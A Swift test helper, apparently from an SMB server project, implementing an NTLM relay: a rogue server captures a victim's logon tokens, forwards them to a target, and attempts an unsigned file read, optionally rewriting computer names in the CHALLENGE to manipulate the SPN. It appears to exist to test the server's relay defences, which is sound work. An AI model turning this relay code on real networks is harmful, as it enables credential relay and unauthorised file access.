// SPDX-License-Identifier: Apache-2.0
import Foundation
import NIOCore
import SMBAuth
import SMBWire
import Support

/// A machine in the middle: a rogue server for the victim, a client for the target, and the tokens of the logon handed through.
struct Relay: Sendable {
    /// How far it came.
    enum Outcome: Hashable, Sendable {
        /// It read the file.
        case isIn(contents: String)
        /// The target refused the logon.
        case logonRefused(NTStatus)
        /// The logon was taken, and worth nothing: a request of the relay's own was refused with this, or, with nil, the connection closed.
        case shutOut(NTStatus?)
    }

    /// What it makes of the target's CHALLENGE before the victim sees it.
    enum Challenge: Sendable {
        case unchanged
        /// The computer names are replaced: a victim that takes its SPN from there then names what the relay wants.
        case renamed(String)
    }

    let targetPort: Int
    /// What it speaks to the target. 3.1.1 would have it sign the tree connect.
    var dialect = SMB2.Dialect.smb2_1
    /// It says that it can encrypt. It has no key to do so.
    var claimsEncryption = false
    var challenge = Challenge.unchanged
    /// The file that it is after.
    let file: String

    /// Waits for one victim and relays it. `watch` runs before the relay lets go of the session that it took over.
    func attack<Seen>(
        by victim: @Sendable (_ roguePort: Int) -> [String], watch: () async throws -> Seen
    ) async throws -> (Outcome, Seen) {
        let listener = try SocketListener()
        let command = victim(listener.port)
        async let victimsEnd = Subprocess.run(command, environment: ["PEER_PASSWORD": SignetServer.password])
        let session = try await Self.onAThread { try self.relay(try listener.accept()) }
        let seen = try await watch()
        withExtendedLifetime(session) {}
        _ = try await victimsEnd
        return (session.outcome, seen)
    }

    /// What is left of an attack: how it ended, and the connection that it ended on.
    private struct Session {
        let outcome: Outcome
        let target: TestClient
    }

    private func relay(_ victim: sending SocketTransport) throws -> sending Session {
        let rogue = Rogue(meeting: victim)
        var options = TestClient.Options()
        options.dialects = [self.dialect]
        if self.claimsEncryption {
            options.capabilities.insert(.encryption)
            options.ciphers = [1, 2]
        }
        let target = TestClient(try SocketTransport(port: self.targetPort), options)
        try target.negotiate()

        var hash = target.preauth
        var token = try rogue.firstToken()
        while true {
            let reply = try target.sessionSetup(token, &hash)
            let answer = Self.token(of: reply)
            guard reply.status == .moreProcessingRequired else {
                try? rogue.finish(reply.status, answer)  // The victim may be gone: it has served its purpose.
                return Session(outcome: self.look(around: target, after: reply.status), target: target)
            }
            token = try rogue.exchange(self.challenge.rewritten(answer))
        }
    }

    /// Reads the file, unsigned: the relay has the session and not its key.
    private func look(around target: TestClient, after status: NTStatus) -> Outcome {
        guard status == .success else { return .logonRefused(status) }
        do {
            try target.treeConnect(SignetServer.share)
            let contents = try target.read(try target.open(self.file, .genericRead, .open), 65536)
            return .isIn(contents: String(buffer: contents))
        } catch {
            return .shutOut(error as? NTStatus)
        }
    }

    private static func token(of reply: TestClient.Reply) -> [UInt8] {
        var reader = WireReader(reply.bytes)
        do {
            try reader.skip(SMB2.Header.size)
            return Array(try SMB2.SessionSetupResponse(decoding: &reader).securityBuffer.readableBytesView)
        } catch { return [] }
    }

    /// The relay's calls block, and the threads of tasks are few.
    private static func onAThread<Result>(_ body: @escaping @Sendable () throws -> sending Result) async throws -> sending Result {
        try await withCheckedThrowingContinuation { continuation in
            Thread {
                do { continuation.resume(returning: try body()) } catch { continuation.resume(throwing: error) }
            }.start()
        }
    }
}

extension Relay.Challenge {
    /// The token for the victim. What is no CHALLENGE passes as it is.
    fileprivate func rewritten(_ token: [UInt8]) throws -> [UInt8] {
        guard case .renamed(let name) = self else { return token }
        guard var response = NegTokenResp(token) else { return try Self.rename(token, to: name) }
        if let inner = response.responseToken { response.responseToken = try Self.rename(inner, to: name) }
        return response.encoded()
    }

    private static func rename(_ token: [UInt8], to name: String) throws -> [UInt8] {
        var challenge = try ChallengeMessage(decoding: ByteBuffer(bytes: token))
        for index in challenge.targetInfo.pairs.indices {
            let identifier = challenge.targetInfo.pairs[index].identifier
            guard identifier == .dnsComputerName || identifier == .netbiosComputerName else { continue }
            challenge.targetInfo.pairs[index] = .init(identifier, text: name)
        }
        return challenge.encoded()
    }
}
